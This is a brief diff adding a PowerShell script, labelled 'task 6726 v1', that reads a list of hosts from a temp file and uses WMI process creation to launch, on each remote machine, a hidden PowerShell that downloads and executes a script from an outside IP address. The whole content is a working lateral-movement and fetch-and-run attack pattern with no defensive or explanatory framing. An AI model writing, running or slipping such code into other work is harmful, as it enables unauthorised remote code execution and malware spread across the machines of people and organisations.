@@ -1,0 +1,5 @@
+# task 6726 v1
+$targets = Get-Content C:\Windows\Temp\hosts.txt
+foreach ($t in $targets) {
+  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://192.0.2.150/a.ps1)"
+}
